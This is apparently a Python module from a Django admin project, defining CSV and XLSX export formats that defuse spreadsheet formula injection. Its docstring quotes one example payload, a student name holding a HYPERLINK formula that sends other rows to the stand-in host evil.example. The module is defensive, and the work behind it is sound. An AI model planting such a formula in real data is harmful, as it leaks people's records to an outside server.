"""CSV and XLSX export formats that cannot carry a formula.

A cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return is read as a formula by
spreadsheet programs: a student named `=HYPERLINK("http://evil.example/?d="&E2, "x")` would send
the other rows to an outside server when staff open the export. django-import-export's own
setting (IMPORT_EXPORT_ESCAPE_FORMULAE_ON_EXPORT) only drops one leading `=` and turns every cell,
`None` included, into text, so every admin export uses these formats instead
(tests/core/test_exports.py checks that no admin exports with another one).

- CSV: such a cell gets a leading apostrophe (OWASP's advice), which spreadsheets show as text.
- XLSX: the value is kept as typed, but written as a plain string cell, never as a formula;
  characters XLSX cannot hold (control characters) are replaced instead of failing the export.
"""

from import_export.formats.base_formats import BINARY_FORMATS, CSV, XLSX

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value):
    """The CSV form of a cell: text a spreadsheet could run gets a leading apostrophe."""
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value


def _map_cells(dataset, func):
    rows = [[func(cell) for cell in row] for row in dataset]
    del dataset[:]
    for row in rows:
        dataset.append(row)
    if dataset.headers:
        dataset.headers = [func(h) for h in dataset.headers]


class SafeCSV(CSV):
    def export_data(self, dataset, **kwargs):
        _map_cells(dataset, neutralise)
        return dataset.export(self.get_title(), **kwargs)


class SafeXLSX(XLSX):
    def export_data(self, dataset, **kwargs):
        """Build the workbook ourselves: tablib lets openpyxl turn any `=…` text into a formula."""
        from io import BytesIO

        from openpyxl import Workbook
        from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
        from openpyxl.styles import Font

        wb = Workbook(write_only=False)
        ws = wb.active
        ws.title = (dataset.title or "Export")[:31]
        rows = ([list(dataset.headers)] if dataset.headers else []) + [list(r) for r in dataset]
        for r, row in enumerate(rows, start=1):
            for c, value in enumerate(row, start=1):
                cell = ws.cell(row=r, column=c)
                if isinstance(value, str):
                    value = ILLEGAL_CHARACTERS_RE.sub("\N{REPLACEMENT CHARACTER}", value)
                    cell.value = value
                    # openpyxl guesses "f" (formula) for any text starting with "=": force text.
                    cell.data_type = "s"
                else:
                    cell.value = value
                if r == 1 and dataset.headers:
                    cell.font = Font(bold=True)
        if dataset.headers:
            ws.freeze_panes = "A2"
        out = BytesIO()
        wb.save(out)
        return out.getvalue()


SAFE_EXPORT_FORMATS = [SafeCSV, SafeXLSX]

# django-import-export passes native values (numbers, dates) only to the formats listed in
# BINARY_FORMATS (checked by exact type): list ours so XLSX keeps numbers as numbers.
if SafeXLSX not in BINARY_FORMATS:
    BINARY_FORMATS.append(SafeXLSX)
